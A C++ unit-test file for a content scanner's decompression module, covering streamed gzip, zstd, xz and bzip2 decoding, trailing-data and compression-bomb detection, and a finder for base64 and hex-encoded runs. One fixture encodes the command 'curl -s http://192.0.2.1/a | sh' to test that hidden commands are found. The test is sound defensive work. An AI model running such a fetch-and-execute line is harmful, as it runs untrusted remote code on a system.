#include "codec/decoder.h"

#include <gtest/gtest.h>
#include <lzma.h>
#include <zlib.h>
#include <zstd.h>

#include <array>
#include <bzlib.h>

#include "codec/text_encoding.h"

namespace lazaret::codec {
namespace {

std::string sample() {
  std::string text;
  for (int i = 0; i < 20000; ++i) text += "line " + std::to_string(i * 7919 % 10007) + "\n";
  return text;
}

std::string gzip(std::string_view plain) {
  z_stream stream{};
  deflateInit2(&stream, 6, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY);
  std::string out(deflateBound(&stream, plain.size()) + 64, '\0');
  stream.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(plain.data()));
  stream.avail_in = static_cast<uInt>(plain.size());
  stream.next_out = reinterpret_cast<Bytef*>(out.data());
  stream.avail_out = static_cast<uInt>(out.size());
  deflate(&stream, Z_FINISH);
  out.resize(stream.total_out);
  deflateEnd(&stream);
  return out;
}

std::string zstd(std::string_view plain) {
  std::string out(ZSTD_compressBound(plain.size()), '\0');
  out.resize(ZSTD_compress(out.data(), out.size(), plain.data(), plain.size(), 3));
  return out;
}

std::string xz(std::string_view plain) {
  std::string out(lzma_stream_buffer_bound(plain.size()), '\0');
  std::size_t size = 0;
  lzma_easy_buffer_encode(1, LZMA_CHECK_CRC64, nullptr, reinterpret_cast<const std::uint8_t*>(plain.data()), plain.size(), reinterpret_cast<std::uint8_t*>(out.data()), &size, out.size());
  out.resize(size);
  return out;
}

std::string bzip2(std::string_view plain) {
  std::string out(plain.size() + plain.size() / 50 + 1000, '\0');
  auto size = static_cast<unsigned>(out.size());
  BZ2_bzBuffToBuffCompress(out.data(), &size, const_cast<char*>(plain.data()), static_cast<unsigned>(plain.size()), 1, 0, 0);
  out.resize(size);
  return out;
}

struct Side final : SideContent {
  std::string text;
  void side_bytes(std::string_view what, std::uint64_t, Bytes piece, bool first) override {
    if (first) text += "[" + std::string(what) + "]";
    text += as_text(piece);
  }
};

struct Decoded {
  std::string bytes, side;
  std::vector<std::string> rules;
};

Decoded decode(std::string_view encoded, std::size_t in_piece, std::size_t out_piece, const DecoderLimits& limits = {0, 0, 0, 128 << 20}) {
  Side side;
  const auto decoder = make_decoder(sniff(as_bytes(encoded)), limits, &side);
  Decoded result;
  std::vector<std::uint8_t> out(out_piece);
  for (std::size_t at = 0; at <= encoded.size(); at += in_piece) {
    Bytes in = clamp(as_bytes(encoded), at, in_piece);
    for (;;) {
      const std::size_t size = decoder->decode(in, out);
      result.bytes.append(reinterpret_cast<const char*>(out.data()), size);
      if (size < out.size() && in.empty()) break;
    }
  }
  decoder->end_of_input();
  result.side = side.text;
  for (const Diagnostic& diagnostic : decoder->diagnostics()) result.rules.push_back(diagnostic.rule);
  return result;
}

TEST(Decoder, AllEncodingsInPiecesOfAnySize) {
  const std::string plain = sample();
  for (const std::string& encoded : {gzip(plain), zstd(plain), xz(plain), bzip2(plain)}) {
    for (const std::size_t in : {std::size_t{1}, std::size_t{7}, std::size_t{4096}, encoded.size()}) {
      for (const std::size_t out : {std::size_t{3}, std::size_t{1 << 16}}) {
        if (in == 1 && out == 3) continue;
        const Decoded decoded = decode(encoded, in, out);
        EXPECT_EQ(decoded.bytes, plain) << in << " " << out;
        EXPECT_TRUE(decoded.rules.empty()) << decoded.rules.front();
      }
    }
  }
}

TEST(Decoder, FurtherMembersFramesAndStreamsAreRead) {
  EXPECT_EQ(decode(gzip("one") + gzip("two"), 5, 100).bytes, "onetwo");
  EXPECT_EQ(decode(gzip("one") + gzip("two"), 5, 100).rules, std::vector<std::string>{"anomaly.gzip-extra-member"});
  EXPECT_EQ(decode(zstd("one") + zstd("two"), 5, 100).bytes, "onetwo");
  EXPECT_EQ(decode(xz("one") + std::string(8, '\0') + xz("two"), 5, 100).bytes, "onetwo");
  EXPECT_EQ(decode(bzip2("one") + bzip2("two"), 5, 100).bytes, "onetwo");
}

TEST(Decoder, BytesBehindTheEndAreHandedOut) {
  for (const std::string& encoded : {gzip("one"), zstd("one"), xz("one"), bzip2("one")}) {
    const Decoded decoded = decode(encoded + "#!payload", 4, 100);
    EXPECT_EQ(decoded.bytes, "one");
    EXPECT_EQ(decoded.side, "[trailing-bytes]#!payload");
    EXPECT_EQ(decoded.rules, std::vector<std::string>{"hidden-content.trailing-data"});
    EXPECT_TRUE(decode(encoded + std::string(1000, '\0'), 4, 100).rules.empty()) << "zero padding is innocent";
  }
}

TEST(Decoder, SkippableFramesAreHandedOut) {
  const std::string frame = std::string("\x50\x2a\x4d\x18\x05\x00\x00\x00hello", 13);
  const Decoded decoded = decode(frame + zstd("one") + frame, 3, 100);
  EXPECT_EQ(decoded.bytes, "one");
  EXPECT_EQ(decoded.side, "[zstd-skippable-frame]hello[zstd-skippable-frame]hello");
}

TEST(Decoder, EveryPrefixEndsWithADiagnosticAndNoCrash) {
  for (const std::string& encoded : {gzip("some text to pack"), zstd("some text to pack"), xz("some text to pack"), bzip2("some text to pack")}) {
    for (std::size_t size = 8; size < encoded.size(); ++size) EXPECT_FALSE(decode(encoded.substr(0, size), 64, 64).rules.empty()) << size;
  }
}

TEST(Decoder, AnyDamagedByteIsNoCrash) {
  for (const std::string& encoded : {gzip(sample().substr(0, 500)), zstd(sample().substr(0, 500)), xz(sample().substr(0, 500)), bzip2(sample().substr(0, 500))}) {
    for (std::size_t at = 0; at < encoded.size(); ++at) {
      std::string damaged = encoded;
      damaged[at] = static_cast<char>(damaged[at] ^ 0xff);
      decode(damaged, 64, 64);
    }
  }
}

TEST(Decoder, BombsAreStopped) {
  const std::string zeros(8 << 20, '\0');
  const Decoded by_bytes = decode(gzip(zeros), 4096, 65536, {1 << 20, 0, 0, 128 << 20});
  EXPECT_EQ(by_bytes.bytes.size(), 1u << 20);
  EXPECT_EQ(by_bytes.rules, std::vector<std::string>{"anomaly.compression-bomb"});
  EXPECT_EQ(decode(gzip(zeros), 4096, 65536, {0, 100, 1 << 20, 128 << 20}).rules, std::vector<std::string>{"anomaly.compression-bomb"});
}

TEST(TextEncoding, RunsAreFound) {
  bool cut = false;
  const auto any = [](std::string_view) { return true; };
  const auto runs = find_encoded_runs("x=\"Y3VybCAtcyBodHRwOi8vMTkyLjAuMi4xL2EgfCBzaAo=\" y", 24, 10, 1000, any, &cut);
  ASSERT_EQ(runs.size(), 1u);
  EXPECT_EQ(runs[0].decoded, "curl -s http://192.0.2.1/a | sh\n");
  EXPECT_TRUE(find_encoded_runs("/usr/share/perl/five/unicore/lib/Something", 24, 10, 1000, any, &cut).empty());
  EXPECT_EQ(find_encoded_runs("\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\\x20\\x61\\x62\\x63\\x64", 24, 10, 1000, any, &cut).size(), 1u);
  EXPECT_EQ(decode_hex("0x41,0x42"), "AB");
  EXPECT_FALSE(decode_hex("4"));
  EXPECT_EQ(decode_base64("aGk"), "hi");
  EXPECT_FALSE(decode_base64("a*b"));
}

// isa-l gave back more bytes than it had been given last, and the number of used bytes wrapped around: the rest of memory was read.
TEST(RawDeflate, DamageWhereIsalGivesBackBytesOfAnEarlierPiece) {
  const std::string damaged("\xcb\xc9\xcc\x49\x55\x78\x0e\x53\x28\x49\xad\x28\xe1\xca\x19\xe5\x8c\x54\x78\x0e\xa6\x00", 22);
  for (std::size_t piece = 1; piece <= damaged.size(); ++piece) {
    for (const bool with_gzip_header : {false, true}) {
      const std::string text = with_gzip_header ? std::string("\x1f\x8b\x08\0\0\0\0\0\0\x03", 10) + damaged : damaged;
      Side side;
      const DecoderLimits limits{1 << 20, 1000, 1 << 16, 8 << 20};
      const auto decoder = with_gzip_header ? make_decoder(Encoding::gzip, limits, &side) : make_raw_deflate_decoder(limits, &side);
      std::array<std::uint8_t, 4096> buffer;
      for (std::size_t at = 0; at < text.size(); at += piece) {
        Bytes in = clamp(as_bytes(text), at, piece);
        while (decoder->decode(in, buffer) == buffer.size() || !in.empty()) {
        }
      }
      decoder->end_of_input();
      ASSERT_FALSE(decoder->diagnostics().empty());
      EXPECT_TRUE(decoder->diagnostics().back().unaudited);
      EXPECT_EQ(decoder->bytes_in(), text.size());
    }
  }
}

// The deflate data ends inside of what isa-l had read ahead: what follows is still seen.
TEST(RawDeflate, TrailingBytesAreSeenHoweverTheInputIsCut) {
  const std::string stream("\x4b\x04\x00", 3), text = stream + "trailing bytes";  // "a"
  for (std::size_t piece = 1; piece <= text.size(); ++piece) {
    Side side;
    const auto decoder = make_raw_deflate_decoder({1 << 20, 1000, 1 << 16, 8 << 20}, &side);
    std::string out;
    std::array<std::uint8_t, 1> buffer;  // one byte at a time: the end comes in a later call than the data
    for (std::size_t at = 0; at < text.size(); at += piece) {
      Bytes in = clamp(as_bytes(text), at, piece);
      for (;;) {
        const std::size_t written = decoder->decode(in, buffer);
        out.append(reinterpret_cast<const char*>(buffer.data()), written);
        if (written == 0 && in.empty()) break;
      }
    }
    decoder->end_of_input();
    EXPECT_EQ(out, "a");
    EXPECT_EQ(side.text, "[trailing-bytes]trailing bytes") << piece;
    EXPECT_EQ(decoder->bytes_in(), text.size());
  }
}

// The magic number of what might be a further member, cut at any place: what is no member is trailing data, all of it.
TEST(Gzip, TheBeginningOfAMemberMayComeInPieces) {
  const std::string one = gzip("first"), two = gzip("second");
  const auto read = [](const std::string& text, std::size_t piece) {
    Side side;
    const auto decoder = make_decoder(Encoding::gzip, {1 << 20, 1000, 1 << 16, 8 << 20}, &side);
    std::string out;
    std::array<std::uint8_t, 64> buffer;
    for (std::size_t at = 0; at < text.size(); at += piece) {
      Bytes in = clamp(as_bytes(text), at, piece);
      for (;;) {
        const std::size_t written = decoder->decode(in, buffer);
        out.append(reinterpret_cast<const char*>(buffer.data()), written);
        if (written < buffer.size() && in.empty()) break;
      }
    }
    decoder->end_of_input();
    EXPECT_EQ(decoder->bytes_in(), text.size());
    return out + side.text;
  };
  for (std::size_t piece = 1; piece < 70; ++piece) {
    EXPECT_EQ(read(one + two, piece), "firstsecond") << piece;
    EXPECT_EQ(read(one + "\x1f\x8b" "not", piece), "first[trailing-bytes]\x1f\x8b" "not") << piece;
    EXPECT_EQ(read(one + "\x1f", piece), "first[trailing-bytes]\x1f") << piece;
  }
}

}  // namespace
}  // namespace lazaret::codec
